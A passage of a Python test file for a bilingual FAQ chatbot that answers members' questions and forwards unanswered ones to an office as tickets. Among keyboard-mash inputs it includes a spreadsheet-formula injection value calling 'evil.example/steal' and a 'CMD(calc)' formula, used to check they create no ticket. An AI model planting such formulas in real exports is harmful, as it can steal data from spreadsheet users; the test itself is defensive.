    decision = demo.match(question, lang)
    assert (decision.kind, decision.entry_ids[:1]) == ("answer", (entry,)), decision
    if entry == "geschaeftsstelle":
        (office,) = [e for e in load_kb_toml(DEMO_DIR / "faq.toml") if e.id == entry]
        assert "@" in office.answers[lang] and "38678 Clausthal-Zellerfeld" in office.answers[lang]


async def test_migration_0003_matches_the_faq_models(db_url: str) -> None:
    from alembic.autogenerate import compare_metadata
    from alembic.migration import MigrationContext
    from sqlalchemy.engine import Connection

    from storage.schema import metadata

    def differences(connection: Connection) -> list[object]:
        context = MigrationContext.configure(connection, opts={"compare_type": True})
        found = compare_metadata(context, metadata)
        return [d for d in found if "faq_" in repr(d)]

    db = Database(db_url)
    await upgrade(db)
    async with db.engine.connect() as conn:
        diffs = await conn.run_sync(differences)
        revision = await conn.exec_driver_sql("SELECT revision FROM faq_kb_state WHERE id = 1")
        assert revision.scalar_one() == 0
    await db.close()
    assert diffs == []


async def test_a_phrasing_of_function_words_only_is_answered_word_for_word(
    kb_bot: Harness,
) -> None:
    # "What can you do?" holds no word the engine weighs; it is the help entry's own phrasing.
    answer = await kb_bot.send("ilse", "What can you do?", lang="en")
    assert "/help" in answer.text and "Ask me your question" not in answer.text
    # Function words that are nobody's phrasing still get the greeting's invitation.
    assert "Ask me your question" in (await kb_bot.send("ilse", "What can they do?")).text


@pytest.mark.parametrize(
    "mash",
    [
        "asdkjh qwe lkjasd zxcmnb qpwoei",
        "fjdksl; ghruei ,vmcx",
        # a formula (walkthrough, session 48: an English member's had become a ticket)
        '=HYPERLINK("http://evil.example/steal", "Klick mich")',
        "@SUM(A1:A9) + CMD(calc)",
    ],
)
async def test_keyboard_mash_asks_for_a_sentence_and_reaches_no_office(
    kb_bot: Harness, mash: str
) -> None:
    chat = await kb_bot.send("hanna", mash)
    assert "Schreiben Sie Ihre Frage bitte in einem ganzen Satz" in chat.text, chat.text
    assert await rows(kb_bot, FaqTicket) == []
    # a question in words nobody wrote in the knowledge base still reaches the office
    await kb_bot.send("hanna", "Darf ich meinen Hund zum Symposium mitbringen?")
    assert len(await rows(kb_bot, FaqTicket)) == 1


@pytest.mark.parametrize(
    ("lang", "text", "first", "second", "left_open"),
    [
        (
            "de",
            "Was kostet die Mitgliedschaft im Jahr? Wie erreiche ich die Clustergeschäftsstelle? "
            "Gibt es einen Parkplatz für Wohnmobile?",
            "Jahresbeitrag",
            "Wie erreiche ich",
            "Auf „Gibt es einen Parkplatz für Wohnmobile?“ habe ich keine sichere Antwort",
        ),
        (
            "en",
            "How much is the membership per year? How do I reach the cluster office? "
            "Is there a parking space for camper vans?",
            "fee",
            "office",
            "I have no reliable answer to “Is there a parking space for camper vans?”",
        ),
    ],
)
async def test_a_message_asking_several_things_gets_one_answer_per_question(
    bot: Harness, lang: str, text: str, first: str, second: str, left_open: str
) -> None:
    await bot.import_kb((DEMO_DIR / "faq.toml").read_text("utf-8"))
    await bot.onboard(lang, lang=lang)
    answer = await bot.send(lang, text)
    helpful = [
        r for r in answer.replies if any("faq:fb:" in b.payload for row in r.buttons for b in row)
    ]
    assert len(helpful) == 2, answer.text
    assert first in helpful[0].text and second in helpful[1].text, answer.text
    assert left_open in answer.text, answer.text
    # the last answer's buttons stay pressable by number under the note on the rest (Matrix)
    assert answer.replies[-1].metadata.get(KEEPS_CHOICES), answer.replies[-1]


@pytest.mark.parametrize(
    ("lang", "text", "asked", "passed_on"),
    [
        (
            "de",
            "Was kostet die Mitgliedschaft? Kann ich das auch in Raten zahlen?",
            "Kann ich das auch in Raten zahlen?",
            "Auf „Kann ich das auch in Raten zahlen?“ habe ich keine sichere Antwort. Ich habe "
            "die Frage an die Clustergeschäftsstelle weitergegeben (Ticket #1)",
        ),
        (
            "en",
            "What does membership cost? Can I pay that in instalments?",
            "Can I pay that in instalments?",
            "I have no reliable answer to “Can I pay that in instalments?”. I have passed that "
            "question on to the cluster office (ticket #1)",
        ),
    ],
)
async def test_a_question_pointing_back_beyond_the_answer_goes_to_the_office_with_it(
    bot: Harness, lang: str, text: str, asked: str, passed_on: str
) -> None:
    # "das"/"that" is the fee, answered; paying in instalments is more than the answer says:
    # named and passed on, and the office reads what "das" is
    await bot.import_kb((DEMO_DIR / "faq.toml").read_text("utf-8"))
    await bot.onboard(lang, lang=lang)
    answer = await bot.send(lang, text)
    assert "Beitragsordnung" in answer.text or "fee schedule" in answer.text, answer.text
    assert passed_on in answer.text, answer.text
    async with bot.db.session() as session:
        ticket = (await session.execute(select(FaqTicket))).scalar_one()
    # the question is what the office may teach; what it points to is shown beside it
    assert ticket.text == asked and ticket.context == text.removesuffix(asked).strip()


@pytest.mark.parametrize(
    ("lang", "text"),
    [
        ("en", "is there a newsletter? how do I get it"),
        ("de", "Gibt es Neuigkeiten vom Cluster? Wie bekomme ich die?"),
    ],
)
async def test_a_question_asking_only_how_to_get_what_was_answered_is_that_answer(
    bot: Harness, lang: str, text: str
) -> None:
    # "how do I get it" is what the news entry says: no second ticket for the office, which
    # had read "how do I get it" alone
    await bot.import_kb((DEMO_DIR / "faq.toml").read_text("utf-8"))
    await bot.onboard(lang, lang=lang)
    answer = await bot.send(lang, text)
    assert "/news yes" in answer.text or "/neuigkeiten ja" in answer.text, answer.text
    assert "ticket" not in answer.text.lower(), answer.text
    assert (await rows(bot, FaqTicket)) == []


async def test_an_article_ending_a_question_points_back_as_das_does(kb_bot: Harness) -> None:
    # "die" is the membership: "Wie bekomme ich die?" read alone had been answered with the
    # news entry ("Wie bekomme ich die Neuigkeiten des Clusters?")
    await kb_bot.onboard("hanna")
    answer = await kb_bot.send("hanna", "Was kostet die Mitgliedschaft? Wie bekomme ich die?")
    assert "Beitragsordnung" in answer.text, answer.text
    assert "/neuigkeiten ja" not in answer.text, answer.text


async def test_the_office_alert_shows_what_a_question_points_back_to(kb_bot: Harness) -> None:
    await kb_bot.send("admin", "/language en")
    await kb_bot.onboard("hanna", org="Stadt Goslar")
    first = "Wie hoch ist der Mitgliedsbeitrag?"
    asked = await kb_bot.send("hanna", f"{first} Kann ich das auch in Raten zahlen?")
    assert "Beitragsordnung" in asked.text and "#1" in asked.text, asked.text
    (alert,) = [m for m in await rows(kb_bot, OutboxMessage) if m.kind == "faq_office_alert"]
    text = str(alert.payload["text"])
    assert "“Kann ich das auch in Raten zahlen?”" in text, text
    assert f"Refers to: “{first}”" in text, text


async def test_the_office_answer_says_what_the_question_pointed_back_to(
    kb_bot: Harness,
) -> None:
    # "Kann ich das auch in Raten zahlen?" answered days later: the member reads what "das"
    # was, as the office did ("ja, das geht" alone had left it to memory)
    await kb_bot.onboard("hanna", org="Stadt Goslar")
    first = "Wie hoch ist der Mitgliedsbeitrag?"
    await kb_bot.send("hanna", f"{first} Kann ich das auch in Raten zahlen?")
    await kb_bot.send("admin", "/antwort 1 Ja, in zwei Raten.")
    (answer,) = [m for m in await rows(kb_bot, OutboxMessage) if m.kind == "office_answer"]
    text = str(answer.payload["text"])
    assert "Kann ich das auch in Raten zahlen?" in text, text
    assert f"(Bezieht sich auf: {first})" in text and "Ja, in zwei Raten." in text, text


async def office_answers_to(bot: Harness, user: str) -> int:
    member = await bot.member(user)
    assert member is not None
    queued = await rows(bot, OutboxMessage)
    return len([m for m in queued if m.kind == "office_answer" and m.member_id == member.id])


async def test_an_alerts_entry_button_after_the_ticket_was_answered_otherwise(
    kb_bot: Harness,
) -> None:
    """The alert's entry buttons outlive the ticket's answer: a press says it is answered
    already, offers at most to teach (answered in the office's own words), sends nothing."""
    await kb_bot.send("admin", "/language de")
    question = "Kann unser Azubi bei der Grubenfahrt mit?"
    assert "#1" in (await kb_bot.send("hanna", question)).text
    await kb_bot.send("admin", "/antwort 1 Ja, Auszubildende sind willkommen.")
    assert await office_answers_to(kb_bot, "hanna") == 1
    pressed = await kb_bot.press("admin", "fl:1:nachwuchs")
    assert "schon beantwortet" in pressed.text, pressed.text
    labels = [render_text(b.label) for r in pressed.replies for row in r.buttons for b in row]
    assert labels == ["Nur lernen", "Abbrechen"], labels
    # in English for an admin who reads English
    await kb_bot.send("admin", "/language en")
    english = await kb_bot.press("admin", "fl:1:nachwuchs")
    assert "already answered" in english.text, english.text
    # sent with an entry but not to be learned: nothing left to do
    assert "#2" in (await kb_bot.send("hanna", "Darf auch unsere Werkstudentin mit?")).text
    preview = await kb_bot.press("admin", "fl:2:nachwuchs")
    await kb_bot.press("admin", preview.button("Only send"))
    assert await office_answers_to(kb_bot, "hanna") == 2
    await kb_bot.send("admin", "/language de")
    again = await kb_bot.press("admin", "fl:2:nachwuchs")
    assert "schon beantwortet" in again.text, again.text
    assert not again.buttons, again.text
    assert await office_answers_to(kb_bot, "hanna") == 2


async def test_a_word_asked_after_a_question_is_part_of_it(kb_bot: Harness) -> None:
    # "Helm?" says what the question is about; it had been a question of its own, which the
    # bot asked to have written out, while the first half got an entry that does not say it
    asked = await kb_bot.send("dora", "Was muss ich zur Exkursion mitbringen? Helm?")
    assert "„Helm?“" not in asked.text, asked.text
    assert "Was muss ich zur Exkursion mitbringen? Helm?" in await _ticket_texts(kb_bot)
    # a question word asked after it is a question of its own
    both = await kb_bot.send("eric", "When is the symposium? And where?", lang="en")
    assert "Symposium" in both.text, both.text


async def _ticket_texts(bot: Harness) -> list[str]:
    return [ticket.text for ticket in await rows(bot, FaqTicket)]
